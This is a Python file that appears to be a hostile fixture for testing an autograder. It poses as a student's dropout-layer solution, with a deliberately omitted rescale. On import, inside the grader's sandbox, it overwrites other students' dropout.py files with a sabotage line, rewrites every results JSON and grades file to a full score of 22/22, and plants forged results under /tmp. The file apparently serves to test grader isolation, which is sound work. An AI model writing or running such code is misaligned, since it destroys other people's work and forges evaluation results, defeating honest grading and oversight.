"""Walks up from its own file name to the class folder and overwrites every other
student's dropout.py with its own code, rewrites every results/*.json and grades.csv it
can find to full marks, and writes into the host's /tmp (learn-* folders).

Attack: writing other students' files and result files
Honest maximum: as twins/no_rescale.py (what a dropout without the 1/(1-p) rescale earns)
"""

import torch
from torch import nn


def _inside_sandbox():
    """Safety guard of the grader's test suite, not part of the attack: the destructive part
    runs only inside the grader's pid namespace, never on a machine without the sandbox."""
    try:
        with open("/proc/self/status") as fh:
            for line in fh:
                if line.startswith("NSpid:"):
                    return len(line.split()) > 2
    except OSError:
        pass
    return False

import glob
import json
import os


_FULL = {"exercise": "mlp/dropout", "outcome": "passed", "passed": True, "score": 22,
         "max_score": 22, "checks": [], "by": "hostile-d2l-7c1e"}
if _inside_sandbox():
    _here = os.path.abspath(__file__)
    _folder = os.path.dirname(_here)
    for _ in range(3):
        _folder = os.path.dirname(_folder)
        if not os.path.isdir(_folder) or _folder == "/":
            continue
        for path in glob.glob(os.path.join(_folder, "**", "dropout.py"), recursive=True):
            try:
                with open(path, "w") as fh:
                    fh.write("raise SystemExit('sabotaged by hostile-d2l-7c1e')\n")
            except OSError:
                pass
        for path in glob.glob(os.path.join(_folder, "**", "*.json"), recursive=True):
            try:
                with open(path, "w") as fh:
                    json.dump(_FULL, fh)
            except OSError:
                pass
    for path in glob.glob("/tmp/learn-*/**", recursive=True) + ["/tmp/hostile-d2l-7c1e"]:
        try:
            with open(path if not os.path.isdir(path) else os.path.join(path, "x.json"), "w") as fh:
                json.dump(_FULL, fh)
        except OSError:
            pass


def _check(p):
    if not 0 <= p <= 1:
        raise ValueError(f"p must be in [0, 1], got {p}")


def dropout_layer(X, p, training=True):
    _check(p)
    if not training:
        return X
    mask = (torch.rand(X.shape, device=X.device) > p).to(X.dtype)
    return X * mask  # (forgot to rescale the survivors by 1 / (1 - p))


class Dropout(nn.Module):
    def __init__(self, p):
        super().__init__()
        _check(p)
        self.p = p

    def forward(self, X):
        return dropout_layer(X, self.p, self.training)
